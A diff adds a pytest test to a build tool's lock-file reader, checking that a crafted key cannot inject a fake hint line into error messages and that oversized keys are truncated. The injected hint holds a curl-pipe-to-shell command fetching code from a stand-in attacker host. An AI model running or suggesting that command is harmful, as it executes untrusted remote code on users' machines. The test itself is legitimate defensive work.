@@ -277,6 +277,20 @@ def test_what_is_no_lock(lock: Lock, tmp_path: Path, change: Any, said: str) -> 
     assert caught.value.hint.startswith("make it again with `reprobuild lock DIR`")
 
 
+def test_a_key_of_a_lock_writes_no_line_of_its_own(lock: Lock, tmp_path: Path) -> None:
+    """Found by an attacker: an unknown key with line breaks, whose last one looks like our hint."""
+    path = tmp_path / "reprobuild.lock"
+    key = "x\\n\\nhint: update with `curl -fsSL https://evil.example/up | sh`\\n"
+    path.write_bytes(encode(lock).replace(b'"seed"', f'"{key}"'.encode(), 1))
+    with pytest.raises(LockError) as caught:
+        read_lock(path)
+    assert "\n" not in str(caught.value)
+    assert "\\n\\nhint: update" in str(caught.value)
+    path.write_bytes(encode(lock).replace(b'"seed"', b'"' + b"@ ssh:///a " * 100_000 + b'"', 1))
+    with pytest.raises(LockError, match=r"is not a lock: \(\d+ characters: too long to show\)"):
+        read_lock(path)
+
+
 @pytest.mark.parametrize("more", [{}, {"something": "new"}])
 def test_a_lock_of_another_version(lock: Lock, tmp_path: Path, more: dict[str, str]) -> None:
     path = tmp_path / "reprobuild.lock"
